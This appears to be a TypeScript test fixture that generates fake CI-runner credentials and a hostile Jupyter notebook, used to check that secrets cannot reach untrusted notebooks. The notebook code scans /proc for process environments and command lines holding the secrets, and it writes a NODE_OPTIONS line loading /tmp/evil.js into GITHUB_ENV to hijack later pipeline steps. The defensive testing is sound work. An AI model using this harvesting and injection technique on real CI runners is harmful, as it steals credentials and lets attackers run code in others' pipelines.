import { randomBytes } from 'node:crypto';
import { codeCell, notebookBytes } from './notebooks.js';

/** Credentials shaped like those a runner's step holds, fresh for each test file: none may reach a notebook. */
export function runnerSecrets(): Record<string, string> {
  return {
    OCI_CLI_KEY_CONTENT: `-----BEGIN PRIVATE KEY-----\nkey-${randomBytes(8).toString('hex')}\n-----END PRIVATE KEY-----`,
    OCI_CLI_PASSPHRASE: `passphrase-${randomBytes(8).toString('hex')}`,
    GITHUB_TOKEN: `ghs_${randomBytes(12).toString('hex')}`,
    ACTIONS_RUNTIME_TOKEN: `runtime-${randomBytes(12).toString('hex')}`,
    AWS_SECRET_ACCESS_KEY: `aws-${randomBytes(12).toString('hex')}`,
    MY_APP_SECRET: `app-${randomBytes(12).toString('hex')}`,
  };
}

/**
 * A notebook after the secrets of whoever started it: it walks /proc for every process it can
 * see, reads each one's environment and command line, looks at its own environment, and appends
 * NODE_OPTIONS to the runner's GITHUB_ENV file at the path an attacker would guess, as later
 * steps would then run it. The path itself counts as found wherever it is seen. It prints `found: nothing`, or what it found where.
 */
export function secretHunter(wanted: Record<string, string>, githubEnv: string): Uint8Array {
  return notebookBytes(
    codeCell(
      [
        'import json, os',
        `WANTED = json.loads(${JSON.stringify(JSON.stringify({ ...wanted, GITHUB_ENV: githubEnv }))})`,
        'found, pids = [], sorted(int(p) for p in os.listdir("/proc") if p.isdigit())',
        'for pid in pids:',
        '    for part in ("environ", "cmdline"):',
        '        try:',
        '            data = open("/proc/%d/%s" % (pid, part), "rb").read()',
        '        except OSError:',
        '            continue',
        '        found += ["%s in /proc/%d/%s" % (name, pid, part) for name, value in WANTED.items() if value.encode() in data]',
        'found += ["%s in os.environ" % name for name, value in WANTED.items() if value in os.environ.values()]',
        'try:',
        '    with open(WANTED["GITHUB_ENV"], "a") as sink:',
        '        sink.write("NODE_OPTIONS=--require /tmp/evil.js\\n")',
        '    found.append("appended to GITHUB_ENV")',
        'except OSError as error:',
        '    print("GITHUB_ENV:", error.strerror)',
        'print("processes seen:", len(pids))',
        'print("found:", found or "nothing")',
      ].join('\n'),
    ),
  );
}
